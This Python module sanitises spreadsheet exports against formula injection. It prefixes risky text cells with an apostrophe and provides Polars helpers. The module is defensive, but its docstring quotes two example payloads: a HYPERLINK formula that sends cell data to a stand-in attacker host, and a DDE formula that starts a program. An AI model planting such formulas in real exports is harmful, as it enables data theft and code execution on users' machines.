"""Text a spreadsheet would run as a formula, made inert: the one rule for every CSV and XLSX
written for a spreadsheet (``--format csv-excel``, the explorer's exports, the dataset's CSV
copies).

Report text is hostile: Excel, LibreOffice and Google Sheets read a cell that starts with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) as a formula, and a formula can send
the sheet's data away (``=HYPERLINK("http://evil.example/?"&A1)``) or start a program
(``=cmd|' /C calc'!A0``). As OWASP recommends, such a cell gets a leading apostrophe, which a
spreadsheet reads as "this is text". Leading spaces are looked through (an importer may trim
them), and so are the full-width signs (＝ ＋ － ＠) some spreadsheets take for the ASCII ones.

Only text is touched: a number column stays numbers (``-491`` is written as a number), and
text that is a plain figure as printed (``-491``, ``-12.5%``, ``+1,200``) is left as it is: a
spreadsheet reads it as that number and nothing else. CSV and JSON for scripts keep the raw
text (README: which output is which).
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import polars as pl

FORMULA_START = r"^(?:[\t\r]|\s*[=+\-@＝＋－＠])"
"""How a cell that a spreadsheet would run starts (one regex Python and Polars read alike)."""
PLAIN_FIGURE = r"^\s*[+\-]?\d[\d,]*(?:\.\d+)?%?\s*$"
"""A signed figure as a report prints it: read by a spreadsheet as that number, never run."""
MARK = "'"
"""What goes before such a cell: shown by no spreadsheet as part of the value it types in,
and the usual defence."""

_FORMULA_START = re.compile(FORMULA_START)
_PLAIN_FIGURE = re.compile(PLAIN_FIGURE)


def inert_for_spreadsheets(text: str) -> str:
    """``text`` as a spreadsheet cell that can only be text (or the figure it shows)."""
    if _FORMULA_START.match(text) and not _PLAIN_FIGURE.match(text):
        return MARK + text
    return text


def inert_column(column: pl.Expr) -> pl.Expr:
    """``inert_for_spreadsheets`` over a whole string column (or a selector of them)."""
    import polars as pl

    runs = column.str.contains(FORMULA_START) & ~column.str.contains(PLAIN_FIGURE)
    return pl.when(runs).then(MARK + column).otherwise(column)


def inert_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with every text column made inert for spreadsheets; numbers untouched."""
    import polars as pl
    import polars.selectors as cs

    text = frame.select(cs.string()).columns
    if not text:
        return frame
    return frame.with_columns(inert_column(pl.col(name)).alias(name) for name in text)
